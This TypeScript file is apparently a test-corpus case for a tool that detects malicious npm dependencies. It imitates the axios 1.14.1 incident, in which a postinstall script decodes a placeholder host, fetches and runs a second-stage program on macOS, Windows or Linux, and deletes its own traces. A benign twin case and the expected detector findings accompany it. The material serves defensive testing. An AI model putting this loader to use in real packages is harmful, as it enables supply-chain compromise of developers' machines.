/**
 * An imitation, inert and ours, of axios 1.14.1: a stolen token published a version with one more dependency, imported
 * nowhere, whose postinstall script unscrambles its strings, fetches a second stage, starts it and removes its traces.
 * https://diegorodrigo.dev/en/2026/04/17/the-axios-case-trusting-npm/
 */
import type { SourceTree } from '../../src/rule.ts';
import type { CorpusCase } from './update.ts';

const entry = `const { join } = require('./join.js');

exports.get = (path, base) => fetch(join(base, path));
`;

const before: SourceTree = {
  'package.json': { main: 'index.js', dependencies: { 'follow-moves': '^1.15.0' } },
  'index.js': entry,
  'join.js': `exports.join = (base, path) => base + '/' + path;\n`,
};

const digest = `exports.sum = function sum(text) {
  let total = 0;
  for (let i = 0; i < text.length; i++) total = (total * 31 + text.charCodeAt(i)) | 0;
  return total;
};
`;

const fetching = `const fs = require('fs');
const os = require('os');
const { execSync } = require('child_process');

const words = ['bGludXg', 'ZGFyd2lu', 'aHR0cDovL3N0YWdlLmludmFsaWQ6ODAwMC8='];
const plain = (word) => Buffer.from(word, 'base64').toString('utf8');

function start() {
  const target = os.tmpdir() + '/' + Math.random().toString(36).slice(2);
  if (os.platform() === plain(words[1])) {
    execSync('curl -s -o ' + target + ' ' + plain(words[2]) + '6202033 && chmod 770 ' + target + ' && /bin/zsh -c "' + target + ' &"');
  } else if (os.platform() === 'win32') {
    execSync('powershell -w hidden -ep bypass -c "iwr ' + plain(words[2]) + ' -OutFile ' + target + '.ps1"');
  } else {
    execSync('curl -o ' + target + ' -s ' + plain(words[2]) + ' && nohup python3 ' + target + ' > /dev/null 2>&1 &');
  }
  fs.unlinkSync(__filename);
  fs.unlinkSync('package.json');
  fs.renameSync('package.md', 'package.json');
}
start();
`;

const dependency: SourceTree = {
  'package.json': { version: '4.2.1', main: 'index.js', scripts: { postinstall: 'node setup.js' } },
  'package.md': '{"name": "plain-digest", "version": "4.2.0", "main": "index.js"}\n',
  'index.js': digest,
  'setup.js': fetching,
};

export const downloadingDependency: CorpusCase = {
  imitations: [
    {
      title: 'a dependency that nothing imports fetches and starts a program when it is installed',
      name: 'http-tiny',
      incident: {
        what: 'axios 1.14.1: the added dependency plain-crypto-js fetched a trojan in its postinstall script',
        when: '2026-03-31',
        url: 'https://diegorodrigo.dev/en/2026/04/17/the-axios-case-trusting-npm/',
      },
      before,
      after: {
        ...before,
        'package.json': { main: 'index.js', dependencies: { 'follow-moves': '^1.15.0', 'plain-digest': '^4.2.1' } },
      },
      dependencies: { 'plain-digest': dependency },
      atLeast: 'block',
      seen: [
        {
          rule: 'dependency-added-unused',
          kind: 'with-install-script',
          path: 'package.json',
          pointer: '/dependencies/plain-digest',
        },
        { rule: 'install-script-added', of: 'plain-digest', path: 'package.json', pointer: '/scripts/postinstall' },
        { rule: 'child-process-at-load', of: 'plain-digest', path: 'setup.js', on: 'nohup python3' },
      ],
      payload: { of: 'plain-digest', path: 'setup.js', code: fetching },
    },
  ],
  twins: [
    {
      title: 'a dependency that is imported, and installs nothing but itself',
      name: 'http-tiny',
      before,
      after: {
        ...before,
        'package.json': { main: 'index.js', dependencies: { 'follow-moves': '^1.15.0', 'plain-digest': '^4.2.0' } },
        'index.js': `${entry}const { sum } = require('plain-digest');

exports.tag = (body) => sum(body).toString(16);
`,
      },
      dependencies: {
        'plain-digest': { 'package.json': { version: '4.2.0', main: 'index.js' }, 'index.js': digest },
      },
    },
  ],
};
